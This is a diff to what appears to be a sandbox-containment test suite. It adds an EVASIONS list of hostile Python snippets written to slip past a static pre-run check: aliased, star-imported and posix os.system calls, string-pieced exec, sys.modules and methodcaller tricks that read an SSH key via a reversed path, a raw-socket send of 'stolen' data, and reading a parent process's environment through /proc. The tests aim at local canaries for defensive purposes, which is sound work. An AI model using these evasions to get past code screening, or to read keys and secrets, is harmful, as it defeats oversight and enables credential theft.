@@ -9,6 +9,9 @@ connection, or a process survives the run.
 `contained_by[backend]` says which layer must contain the attack: "sandbox" (the backend itself, at run
 time: namespaces, limits, environment scrubbing, process cleanup) or "static-check" (the pre-run check
 in runtime/static_check.py refuses the script; the plain subprocess backend cannot stop it by itself).
+"nothing" marks the evasions: code written to slip past the static check, which only bubblewrap stops.
+They document that the static check is a filter for honest mistakes, not a security boundary, and why
+`isolation=auto` refuses to run scripts without bubblewrap.
 """
 
 from __future__ import annotations
@@ -22,7 +25,7 @@ import uuid
 from dataclasses import dataclass, field
 from pathlib import Path
 
-SANDBOX, STATIC = "sandbox", "static-check"
+SANDBOX, STATIC, NOTHING = "sandbox", "static-check", "nothing"
 
 
 @dataclass(frozen=True)
@@ -39,6 +42,34 @@ class Hostile:
 def _h(name: str, code: str, layer: str, statuses: tuple[str, ...] = ("ok", "error")) -> Hostile:
     return Hostile(name, code.strip() + "\n", layer, statuses)
 
+
+#: Evasions of the static check, each of which escaped the plain subprocess backend when tried.
+EVASIONS: list[Hostile] = [
+    _h("evade_private_socket_module", """
+import _socket
+s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
+s.settimeout(2)
+s.connect(('127.0.0.1', {port}))
+s.sendall(b'stolen')
+""", NOTHING),
+    _h("evade_aliased_os_system", "import os as o\no.system('cat ' + {ssh_key_reversed!r}[::-1])", NOTHING),
+    _h("evade_star_import", "from os import *\nsystem('cat ' + {ssh_key_reversed!r}[::-1])", NOTHING),
+    _h("evade_posix_system", "import posix\nposix.system('cat ' + {ssh_key_reversed!r}[::-1])", NOTHING),
+    _h("evade_builtins_exec", """
+run = getattr(__builtins__, 'ex' + 'ec') if not isinstance(__builtins__, dict) else __builtins__['ex' + 'ec']
+run("print(open(" + repr({ssh_key_reversed!r}[::-1]) + ").read())")
+""", NOTHING),
+    _h("evade_sys_modules_os", "import sys\nsys.modules['os'].system('cat ' + {ssh_key_reversed!r}[::-1])", NOTHING),
+    _h("evade_methodcaller", """
+import operator, os as _o
+operator.methodcaller('system', 'cat ' + {ssh_key_reversed!r}[::-1])(_o)
+""", NOTHING),
+    _h("evade_pieced_path", "print(open({ssh_key_reversed!r}[::-1]).read())", NOTHING),
+    _h("evade_proc_parent_environ", """
+import os
+print(open('/'.join(['', 'proc', str(os.getppid()), 'env' + 'iron'])).read())
+""", NOTHING),
+]
 
 CORPUS: list[Hostile] = [
     _h("read_ssh_key", "print(open({ssh_key!r}).read())", STATIC),
@@ -243,7 +274,8 @@ class Canaries:
             ssh_key=str(self.ssh_dir / "id_rsa"), ssh_dir=str(self.ssh_dir), answers=str(answers),
             answers_relative=os.path.relpath(answers, attempt), checkpoints=str(self.root / "checkpoints.db"),
             outside=str(self.root / "outside.txt"), tmp_canary=str(self.tmp_canary),
-            agent_file=str(self.root / "agent" / "nodes.py"), port=self.port)
+            agent_file=str(self.root / "agent" / "nodes.py"), port=self.port,
+            ssh_key_reversed=str(self.ssh_dir / "id_rsa")[::-1])
 
     def escapes(self, attempt: Path, result=None) -> list[str]:
         """Every sign that an attack got out; empty when it was contained."""
